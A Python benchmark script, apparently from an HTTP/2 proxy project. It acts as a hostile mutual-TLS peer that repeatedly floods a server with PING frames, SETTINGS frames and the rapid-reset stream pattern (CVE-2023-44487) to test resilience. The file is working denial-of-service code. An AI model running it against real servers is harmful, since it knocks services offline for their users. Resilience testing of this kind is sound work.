"""A hostile peer with a certificate: it comes, floods until it is thrown out, and comes again.

    python -m bench.flood HOST PORT CERT KEY ROOTS AUTHORITY

It says when it got through for the first time, ends with its standard input, and says then what it got rid of.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import select
import socket
import ssl
import sys
import time
from typing import TYPE_CHECKING

from hbone.testing import frames

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATIENCE = 2.0
"""Seconds after which it leaves by itself."""
PAUSE = 0.02
"""Seconds until it comes again, so that not the attacker's own CPU is what the others feel."""


def pings(_: str) -> Iterator[bytes]:
    """PING without end; the answers are not read."""
    return itertools.repeat(frames.ping() * 256)


def settings(_: str) -> Iterator[bytes]:
    """SETTINGS without end; each wants an answer."""
    return itertools.repeat(frames.settings({3: 100}) * 256)


def resets(authority: str) -> Iterator[bytes]:
    """Streams that are opened and reset at once. Source: CVE-2023-44487."""
    for first in itertools.count(1, 128):
        yield b"".join(frames.connect(n, authority) + frames.rst_stream(n) for n in range(first, first + 128, 2))


KINDS: tuple[Callable[[str], Iterator[bytes]], ...] = (pings, settings, resets)


def ended() -> bool:
    """Whether standard input has ended."""
    return bool(select.select([sys.stdin], [], [], 0)[0])


def attack(context: ssl.SSLContext, where: tuple[str, int], flood: Iterator[bytes], first: bool) -> int:
    """One connection; the bytes that it got rid of."""
    sent = 0
    until = time.monotonic() + PATIENCE
    with contextlib.suppress(OSError):
        with socket.create_connection(where, timeout=PATIENCE) as plain, context.wrap_socket(plain) as sock:
            sock.sendall(PREFACE + frames.settings({4: 1 << 20}))
            if first:
                print("through", flush=True)
            for piece in flood:
                sock.sendall(piece)
                sent += len(piece)
                if time.monotonic() > until or ended():
                    break
    return sent


def main(arguments: list[str]) -> None:
    """Attack in turn with each kind until standard input ends."""
    host, port, cert, key, roots, authority = arguments
    os.nice(10)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.load_verify_locations(roots)
    context.load_cert_chain(cert, key)
    context.set_alpn_protocols(["h2"])
    nbytes = connections = 0
    for kind in itertools.cycle(KINDS):
        if ended():
            break
        nbytes += attack(context, (host, int(port)), kind(authority), not nbytes)
        connections += 1
        time.sleep(PAUSE)
    print(json.dumps({"connections": connections, "bytes": nbytes}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
